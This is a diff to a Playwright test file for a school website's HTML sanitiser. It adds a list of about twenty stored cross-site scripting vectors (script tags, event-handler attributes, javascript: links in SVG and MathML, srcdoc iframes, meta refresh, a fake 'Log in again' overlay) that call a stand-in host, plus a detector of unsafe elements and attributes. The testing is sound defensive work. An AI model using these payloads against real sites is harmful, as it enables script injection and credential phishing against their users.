@@ -14,7 +14,7 @@ async function openPost(page: Page, school: School, id: string, content: string)
   await expect(page).toHaveTitle(`A post · ${site.name}`)
 }
 
-// In a real browser, because the sanitiser relies on a real parser. Which pictures are asked for, stored-xss.spec.ts tests.
+// In a real browser, because the sanitiser relies on a real parser.
 test('headings, lists, pictures, links, tables and Gurmukhi stay in a post', async ({ page, school }) => {
   const kept = [
     '<h2 id="user-content-first">Read <span lang="pa">ਪੈਂਤੀ</span></h2><h3>Aloud</h3>',
@@ -74,3 +74,70 @@ test('links of the site do not reload, others send no referrer', async ({ page, 
   await expect(page).toHaveURL('/pa/courses')
   await expect(page.locator('html')).toHaveAttribute('lang', 'pa')
 })
+
+// The content security policy would stop most of it too. Here the page stands alone; hosting.spec.ts tests the policy.
+test.describe('without the content security policy', () => {
+  test.use({ bypassCSP: true })
+
+  /** Ways to make stored HTML act in Chromium; `ran()` notifies the test. */
+  const vectors = [
+    '<script>ran()</script>',
+    '</textarea><script type="module">import "https://elsewhere.example/"</script>',
+    '<svg><script href="data:,ran()"/></svg>',
+    '<svg><animate onbegin="ran()" attributeName="x" dur="1s">',
+    '<svg><a xlink:href="javascript:ran()"><text y="20">Press</text></a></svg>',
+    '<math><mtext><a href="javascript:ran()">Press</a></mtext></math>',
+    '<img/src="data:,"/onerror="ran()">',
+    '<img src="\\\\elsewhere.example/">',
+    '<picture><source srcset="https://elsewhere.example/"><img src="data:,"></picture>',
+    '<table background="https://elsewhere.example/"><tr><td>Words</td></tr></table>',
+    '<a href="jav&#x09;ascript:ran()">Press</a>',
+    '<iframe srcdoc="&lt;img src=data:, onerror=parent.ran()&gt;"></iframe>',
+    '<style>@import "https://elsewhere.example/";</style>',
+    '<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">',
+    '<base href="https://elsewhere.example/"><img src="x.png">',
+    '<div style="position:fixed;inset:0">Log in again</div>',
+    '<details open ontoggle="ran()"><summary>More</summary></details>',
+    '<form><input autofocus onfocus="ran()"><button formaction="javascript:ran()">Send</button></form>',
+    '<div><template shadowrootmode="open"><img src="data:," onerror="ran()"></template></div>',
+    '<img name="querySelector"><p id="school">Words</p>',
+  ]
+
+  test('no post runs a script, asks another site or lies over the page', async ({
+    page,
+    school,
+    consoleErrors,
+  }) => {
+    consoleErrors.allow(/^Failed to load resource/)
+    const acts: string[] = []
+    await page.exposeFunction('ran', () => void acts.push('a script ran'))
+    await page.route(/elsewhere\.example/, (route) => {
+      acts.push(`asked for ${route.request().url()}`)
+      return route.abort()
+    })
+    for (const [index, html] of vectors.entries()) {
+      await openPost(page, school, `acts-${index}`, `<p>It begins.</p>${html}`)
+      const post = page.getByText('It begins.').locator('..')
+      expect(await post.evaluate(unsafeIn), html).toEqual([])
+      await school.remove(`Blogs/acts-${index}`)
+    }
+    expect(acts).toEqual([])
+    expect(await page.evaluate(() => typeof Reflect.get(document, 'querySelector'))).toBe('function')
+  })
+})
+
+/** In the page: what a sanitised text must not contain, below an element; each with its HTML. */
+function unsafeIn(text: Element): string[] {
+  const elements =
+    'script,iframe,object,embed,form,input,button,style,link,meta,base,math,svg,template,source,picture,details'
+  const attribute = /^on|^style$|^(srcset|background|formaction|srcdoc|xlink:href|autofocus)$/i
+  return [...text.querySelectorAll('*')]
+    .filter(
+      (element) =>
+        element.matches(elements) ||
+        element.getAttributeNames().some((name) => attribute.test(name)) ||
+        !/^((https?|mailto|tel):|[^a-z]|$)/.test(element.getAttribute('href') ?? '') ||
+        !(element.getAttribute('id') ?? 'user-content-').startsWith('user-content-'),
+    )
+    .map((element) => element.outerHTML.slice(0, 100))
+}
